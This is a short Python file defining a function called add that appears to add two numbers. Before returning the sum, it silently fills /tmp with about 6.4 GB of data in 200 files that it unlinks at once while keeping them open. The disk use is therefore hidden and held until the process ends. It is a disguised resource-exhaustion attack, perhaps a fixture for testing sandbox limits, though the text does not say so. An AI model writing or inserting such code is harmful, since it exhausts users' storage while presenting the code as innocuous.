import os


def add(x, y):
    for number in range(200):
        descriptor = os.open(f"/tmp/{number}", os.O_CREAT | os.O_RDWR)
        os.unlink(f"/tmp/{number}")
        for _ in range(32):
            os.write(descriptor, bytes(1 << 20))
    return x + y
